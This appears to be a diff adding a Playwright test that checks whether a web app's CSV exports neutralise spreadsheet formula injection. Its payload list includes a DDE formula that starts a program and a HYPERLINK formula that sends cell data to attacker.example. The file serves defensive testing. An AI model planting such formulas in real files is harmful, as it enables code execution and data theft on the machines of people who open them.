@@ -1,0 +1,53 @@
+import { expect } from '@playwright/test';
+import { ANSWERS } from '../../app/api/v1/shapes.ts';
+import { type AttackTable, eachOf } from './attack.ts';
+
+const FORMULAS: [string, string][] = [
+  ['a formula', '=1+1'],
+  ['a plus', '+1+1'],
+  ['a minus', '-1+1'],
+  ['an at sign', '@SUM(1,1)'],
+  ['a tab before a formula', '\t=1+1'],
+  ['a carriage return before a formula', '\r=1+1'],
+  ['a line feed before a formula', '\n=1+1'],
+  ['a formula of full width', '＝1+1'],
+  ['a program to start', `=cmd|' /C calc'!A0`],
+  ['a link that takes data along', '=HYPERLINK("https://attacker.example/?"&A1,"look")'],
+];
+
+/** The cells of a CSV file that a spreadsheet would reckon out; a plain number is none. */
+function reckoned(csv: string): string[] {
+  const cells = [...csv.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r\n|$)/g)].map(([, cell = '']) =>
+    cell.replace(/^"/, ''),
+  );
+  return cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
+}
+
+export const SPREADSHEETS: AttackTable = {
+  kind: 'formulas in CSV',
+  attacks: [
+    ...eachOf(FORMULAS, async ({ owner }, formula) => {
+      const cases = [{ input: `${formula} `, reference: formula, tags: [formula], metadata: { [formula]: formula } }];
+      const { id } = await owner.read(ANSWERS.CreatedDataset, 'POST', '/api/v1/datasets', { name: formula, cases });
+      const { status, text } = await owner.call('GET', `/api/v1/datasets/${id}/export?format=csv`);
+      expect(status).toBe(200);
+      expect(text).toContain(formula.trim().replaceAll('"', '""'));
+      expect(reckoned(text)).toEqual([]);
+    }),
+    {
+      name: 'outputs and names of runs',
+      attempt: async ({ owner, hostile }) => {
+        const { experimentId } = await hostile();
+        for (const format of ['runs', 'versions']) {
+          const { status, text } = await owner.call(
+            'GET',
+            `/api/v1/export/runs?experimentId=${experimentId}&format=${format}`,
+          );
+          expect(status).toBe(200);
+          expect(text).toContain('=1+1');
+          expect(reckoned(text)).toEqual([]);
+        }
+      },
+    },
+  ],
+};
